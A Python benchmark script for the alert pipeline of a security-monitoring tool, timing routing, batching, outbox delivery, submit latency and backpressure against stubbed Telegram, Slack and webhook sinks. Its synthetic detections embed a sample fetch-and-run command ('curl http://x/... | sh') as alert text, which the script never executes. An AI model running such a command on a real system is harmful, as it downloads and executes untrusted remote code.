"""Benchmark of the alert pipeline: routing, batching and the SQLite outbox, with the HTTP
sinks stubbed at the HTTP layer (httpx.MockTransport: the real sink code renders and
POSTs; only the network is replaced).

Prints:
1. incidents/s through routing + batching + outbox + delivery (synchronous pumps);
2. messages/s when nothing is batched (every incident bypasses batching);
3. submit() latency while the pipeline threads run, next to a bare deque append;
4. backpressure: a slow sink (20 ms per request) with an offered load far above what it
   can take, and a bounded queue: drops, queue depth, outbox backlog — measured.

Run: .venv/bin/python bench/alerts.py [--quick]
"""

from __future__ import annotations

import argparse
import random
import tempfile
import time
from collections import deque
from pathlib import Path

import httpx

from vigil.alerts.config import AlertsConfig
from vigil.alerts.pipeline import AlertPipeline
from vigil.detections import Detection, Entity
from vigil.priority import Priority

T0 = 1795694400.0


def transport(delay: float = 0.0) -> tuple[httpx.MockTransport, list[int]]:
    """A stub HTTP layer answering every request like Telegram/Slack would, after `delay`."""
    count = [0]

    def handler(request: httpx.Request) -> httpx.Response:
        if delay:
            time.sleep(delay)
        count[0] += 1
        return httpx.Response(200, json={"ok": True, "result": {"message_id": count[0]}})

    return httpx.MockTransport(handler), count


def config(queue_size: int = 10000, bypass: str | None = None) -> AlertsConfig:
    table: dict = {
        "queue_size": queue_size,
        "sinks": {
            "tg": {"type": "telegram", "token": "1:x", "chat_id": "1", "min_interval_secs": 0},
            "team": {"type": "slack", "url": "http://slack.invalid/hook"},
            "hook": {"type": "webhook", "url": "http://hook.invalid/in"},
        },
        "routes": [
            {"name": "oncall", "sink": "tg", "min_priority": "warning"},
            {"name": "network", "sink": "team", "tags": ["network"]},
            {"name": "all", "sink": "hook"},
        ],
    }
    if bypass:
        table["bypass_batching_min_priority"] = bypass
    return AlertsConfig.from_dict(table)


def incidents(n: int, kinds: int = 50, seed: int = 1) -> list[Detection]:
    rnd = random.Random(seed)
    out = []
    for i in range(n):
        k = rnd.randrange(kinds)
        out.append(Detection(
            kind="detector", name=f"detector_{k}", priority=rnd.choice(
                [Priority.NOTICE, Priority.WARNING, Priority.ERROR, Priority.CRITICAL]),
            output=f"something happened: cmdline=sh -c 'curl http://x/{i} | sh'",
            entity=Entity(ip=f"203.0.113.{rnd.randrange(40)}"), ts=int((T0 + i * 0.01) * 1e9),
            tags=["network"] if k % 3 == 0 else [], hostname="bench"))
    return out


def bench_throughput(n: int, bypass: str | None) -> None:
    dets = incidents(n)
    tr, count = transport()
    with tempfile.TemporaryDirectory() as d:
        p = AlertPipeline(config(queue_size=n + 1, bypass=bypass), Path(d), transport=tr)
        t = time.perf_counter()
        for i in range(0, n, 500):
            chunk = dets[i:i + 500]
            for det in chunk:
                p.submit(det)
            p.pump(chunk[-1].ts / 1e9)
        p.flush(T0 + n * 0.01 + 1)
        dt = time.perf_counter() - t
        s = p.stats()
        p.close()
    label = "no batching (bypass all)" if bypass else "batching on (60 s windows)"
    print(f"  {label:28s} {n / dt:10,.0f} incidents/s  ({s.accepted} route matches, "
          f"{s.immediate} immediate + {s.summaries} summaries -> {count[0]} HTTP posts "
          f"= {count[0] / dt:,.0f} messages/s)")


def bench_submit_latency(n: int) -> None:
    dets = incidents(n)
    tr, _ = transport()
    with tempfile.TemporaryDirectory() as d:
        p = AlertPipeline(config(queue_size=n + 1), Path(d), transport=tr)
        p.start()
        lat = []
        for det in dets:
            t = time.perf_counter_ns()
            p.submit(det)
            lat.append(time.perf_counter_ns() - t)
            if len(lat) % 1000 == 0:
                time.sleep(0.001)  # an engine between detections; lets the threads run
        s = p.stop()
    base = []
    q: deque = deque()
    for det in dets:
        t = time.perf_counter_ns()
        q.append(det)
        base.append(time.perf_counter_ns() - t)
    lat.sort()
    base.sort()

    def pct(xs: list[int], p: float) -> float:
        return xs[min(len(xs) - 1, int(len(xs) * p))] / 1000

    print(f"  submit():      p50 {pct(lat, .5):6.2f} µs  p99 {pct(lat, .99):6.2f} µs  "
          f"p99.9 {pct(lat, .999):7.2f} µs  max {lat[-1] / 1000:8.1f} µs  "
          f"(dropped {s.dropped}, max queue depth {s.max_queue_depth})")
    print(f"  deque.append:  p50 {pct(base, .5):6.2f} µs  p99 {pct(base, .99):6.2f} µs  "
          f"p99.9 {pct(base, .999):7.2f} µs  max {base[-1] / 1000:8.1f} µs  "
          f"(ratio p50 {pct(lat, .5) / max(pct(base, .5), 1e-3):.1f}x)")


def bench_backpressure(n: int, queue_size: int, rate: float | None) -> None:
    """Offer `n` distinct critical incidents (none batched) at `rate`/s (None: as fast as
    possible) to a pipeline whose only sink takes 20 ms per message."""
    tr, count = transport(delay=0.02)
    cfg = AlertsConfig.from_dict({"queue_size": queue_size,
                                  "sinks": {"tg": {"type": "telegram", "token": "1:x",
                                                   "chat_id": "1", "min_interval_secs": 0}},
                                  "routes": [{"sink": "tg"}],
                                  "bypass_batching_min_priority": "critical"})
    dets = [Detection(kind="detector", name=f"d{i}", priority=Priority.CRITICAL, output="x",
                      ts=int(T0 * 1e9)) for i in range(n)]
    with tempfile.TemporaryDirectory() as d:
        p = AlertPipeline(cfg, Path(d), transport=tr, poll_interval=0.01)
        p.start()
        worst = 0
        t0 = time.perf_counter()
        for i, det in enumerate(dets):
            if rate:
                target = t0 + i / rate
                while time.perf_counter() < target:
                    time.sleep(0.0005)
            t = time.perf_counter_ns()
            p.submit(det)
            worst = max(worst, time.perf_counter_ns() - t)
        offered_s = time.perf_counter() - t0
        time.sleep(0.3)
        backlog = p.counts()
        stats = p.stats()
        sent_during = count[0]
        # do not wait for the slow sink to drain: the backlog stays in the outbox
        p.stop(drain=False)
    label = f"{rate:,.0f}/s" if rate else "max speed"
    print(f"  offered {n} at {label:10s} in {offered_s:5.2f} s, queue {queue_size}: "
          f"dropped {stats.dropped}, max queue depth {stats.max_queue_depth}, "
          f"worst submit {worst / 1000:.0f} µs, sent {sent_during}, "
          f"outbox backlog {backlog.pending + backlog.retrying}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--quick", action="store_true", help="smaller runs")
    args = ap.parse_args()
    n = 5000 if args.quick else 20000
    print("Alert pipeline benchmark (HTTP sinks stubbed with httpx.MockTransport)")
    print("1-2. routing + batching + outbox + delivery, 3 routes (telegram, slack, webhook):")
    bench_throughput(n, None)
    bench_throughput(n // 4, "debug")
    print("3. submit() latency while the pipeline threads run:")
    bench_submit_latency(n * 5)
    print("4. backpressure: one sink taking 20 ms per message (about 50 messages/s):")
    bench_backpressure(n, 1000, None)
    bench_backpressure(2000 if args.quick else 5000, 1000, 2000.0)
    print("   (the engine side never waits: drops are counted; everything accepted is in "
          "the outbox, delivered as fast as the sink allows)")


if __name__ == "__main__":
    main()
